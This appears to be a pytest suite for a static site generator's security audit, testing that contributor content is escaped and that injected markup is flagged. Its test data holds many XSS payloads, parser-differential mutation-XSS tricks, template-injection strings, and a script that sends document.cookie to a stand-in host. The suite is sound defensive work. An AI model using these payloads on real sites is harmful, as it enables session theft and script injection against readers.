"""Untrusted contributions: an attack in every contributor field, built into a site that the
audit finds clean, while trusted pages keep their Markdown extensions."""

import re
import shutil
from html.parser import HTMLParser

import pytest
from conftest import TESTS, THEME_PAGE, THEME_SCRIPT, build_site, make_project

from generator.build.audit import audit_site
from generator.build.pipeline import build

ATTACKS = TESTS / "fixtures" / "attacks"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = make_project(tmp_path_factory.mktemp("attacks") / "kb")
    shutil.copytree(ATTACKS, root, dirs_exist_ok=True)
    build_site(root, languages=("fr", "ar"))
    return root, root / "site"


def pages(site):
    return {p: p.read_text(encoding="utf-8") for p in site.rglob("*.html")}


def test_the_attacks_leave_nothing_the_audit_finds(attacked):
    _, site = attacked
    assert audit_site(site, frozenset({"awa.test@example.org"}), frozenset()) == []


def test_no_attack_reaches_a_page_as_markup(attacked):
    _, site = attacked
    for path, html in pages(site).items():
        assert "<script>alert" not in html, path
        assert not re.search(r"<[a-z][^>]*\son\w+\s*=", html, re.I), path
        assert not re.search(r"(href|src|action|formaction)=\"\s*(javascript|vbscript|data):",
                             html, re.I), path
        assert not re.search(r"<(iframe|object|embed|base|meta http-equiv)", html, re.I), path
        assert "evil.example/track.gif" not in html or 'src="https://evil.example' not in html


class Text(HTMLParser):
    def __init__(self):
        super().__init__()
        self.parts = []

    def handle_data(self, data):
        self.parts.append(data)


def visible(html: str) -> str:
    parser = Text()
    parser.feed(html)
    return "".join(parser.parts)


def test_attack_text_is_shown_as_text(attacked):
    _, site = attacked
    text = visible((site / "fr" / "practices" / "test-border-practice" / "index.html")
                   .read_text())
    # One-line fields keep every character; nothing in them became markup.
    assert "<script>alert(1)</script> [x](javascript:alert(1)) {: onclick=alert(1) }" in text
    assert "<svg onload=alert(1)> [y](JaVaScRiPt:alert(1)) </p><script>alert(2)</script>" in text
    # Contributor text is never a template.
    assert '{{ config.extra }} {% include "base.html" %} ${7*7}' in text


def test_links_that_close_early_stay_one_address(attacked):
    _, site = attacked
    html = (site / "fr" / "practices" / "test-border-practice" / "index.html").read_text()
    assert 'href="https://x.org/a)[y](javascript:alert(1)"' in html


def test_trusted_pages_keep_their_extensions(attacked):
    # The attack corpus replaces the English About page, which the fixture above does not
    # build: build English too.
    root, _ = attacked
    build_site(root, languages=("en",), site=root / "site-en")
    html = (root / "site-en" / "en" / "about" / "index.html").read_text()
    assert 'class="admonition note"' in html and "<table>" in html
    assert "<pre" in html and "sskb validate" in visible(html)


def test_an_unconsented_email_in_a_text_fails_the_build(tmp_path):
    root = make_project(tmp_path / "kb")
    path = root / "practices" / "test-border-practice.yaml"
    path.write_text(path.read_text().replace("Une description en **Markdown**.",
                                             "Write to someone.private@example.org."))
    report = build(root, languages=("en",), say=lambda line: None)
    assert {finding.code for finding in report.findings} == {"personal-data"}
    assert not (root / "site").exists()


@pytest.mark.parametrize("content, outside, code", [
    ("<p>fine</p>", "", None),
    ("<script>alert(1)</script>", "", "script"),
    ("", "<script>steal()</script>", "script"),
    ("", '<script src="https://evil.example/x.js"></script>', "script"),
    ('<p onclick="alert(1)">x</p>', "", "event-handler"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "", "url"),
    ('<a href=" JaVaScRiPt:alert(1)">x</a>', "", "url"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "", "url"),
    ('<a href="vbscript:msgbox(1)">x</a>', "", "url"),
    ('<iframe src="https://evil.example"></iframe>', "", "element"),
    ("", '<object data="x.swf"></object>', "element"),
    ('<form action="https://evil.example"></form>', "", "element"),
    ("<p>Write to some.one@example.org</p>", "", "personal-data"),
    ('<a href="mailto:some.one@example.org">mail</a>', "", "personal-data"),
    ("<p>Call +221 33 800 00 09</p>", "", "personal-data"),
    ("<p>Write to allowed@example.org or call +221 33 800 00 01</p>", "", None),
    # text after a comment is still text; a script's or a style's is not shown to readers
    ("<p><!-- note -->write to some.one@example.org</p>", "", "personal-data"),
    ("", "<style>/* a.b@example.org */</style><script type=\"application/json\" "
     "id=\"__config\">{\"to\": \"a.b@example.org\"}</script>", None),
    # the theme's scripts are recognised whole, not by how they begin
    ("", "<script>__md_scope=new URL('..',location);fetch('//x.example/'+document.cookie)"
     "</script>", "script"),
    ("", '<script>var target=document.getElementById(location.hash.slice(1));alert(1)'
     "</script>", "script"),
    ('<div OnMouseOver="alert(1)">x</div>', "", "event-handler"),
    # SVG, MathML and media have no place in content, and their dangers are reported too
    ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "", ("url", "not-allowed")),
    # what browsers read as text and libxml2 as elements, either way round
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "",
     "element"),
    ("<noscript><!-- </noscript><img src=x onerror=alert(1)> --></noscript>", "", "element"),
    ("<noscript>Search needs JavaScript.</noscript>", "", None),
    # (a browser reads the <img> out of the SVG <style>, and runs it)
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "",
     ("element", "event-handler", "not-allowed")),
    # SVG and MathML, which libxml2 reads otherwise than a browser: the browser's reading
    ("<svg><title><img src=x onerror=alert(1)></title></svg>", "",
     ("event-handler", "not-allowed")),
    ('<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>'
     "</svg>", "", ("element", "not-allowed")),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "", ("url", "not-allowed")),
    ("<p><marquee>x</marquee></p>", "", "not-allowed"),
    ("<p>Prices rise 3 % + 4 %, see @example</p>", "", None),
    # nothing is fetched from another site: readers' addresses stay with the site
    ('<img src="https://other.example/x.png">', "", "external"),
    ('<img src="//other.example/x.png">', "", "external"),
    ('<img src="\\\\other.example\\x.png">', "", "external"),
    ('<img src="../assets/logo.png" srcset="a.png 1x, https://other.example/b.png 2x">', "",
     ("external", "not-allowed")),
    ('<video poster="https://other.example/p.jpg"></video>', "", ("external", "not-allowed")),
    ('<a href="../x/" ping="https://other.example/track">x</a>', "",
     ("external", "not-allowed")),
    ('<p style="background:url(https://other.example/t.gif)">x</p>', "",
     ("external", "not-allowed")),
    # and what is harmless but on no allow-list
    ('<p style="color: red" data-track="1">x</p>', "", ("not-allowed",)),
    ("", '<link rel="stylesheet" href="https://other.example/a.css">', "external"),
    ("", "<style>@import 'https://other.example/a.css';</style>", "external"),
    ("", '<meta http-equiv="refresh" content="0;url=https://other.example/">', "element"),
    ("", '<base href="https://other.example/">', "element"),
    ('<img src="../assets/logo.png" alt="logo">', "", None),
    ('<a href="https://www.un.org/">a source</a>', "", None),
])
def test_the_audit_finds_what_could_run_or_expose(tmp_path, content, outside, code):
    page = tmp_path / "en" / "page" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(THEME_PAGE.format(content=content, outside=outside,
                                      theme_script=THEME_SCRIPT.format()))
    findings = audit_site(tmp_path, frozenset({"allowed@example.org"}),
                          frozenset({"+221338000001"}))
    codes = [f.code for f in findings]
    if isinstance(code, tuple):  # several rules see it: each says so
        assert set(codes) == set(code)
    else:
        assert codes == ([code] if code else [])
    assert all(f.path == "en/page/index.html" and f.line >= 1 for f in findings)
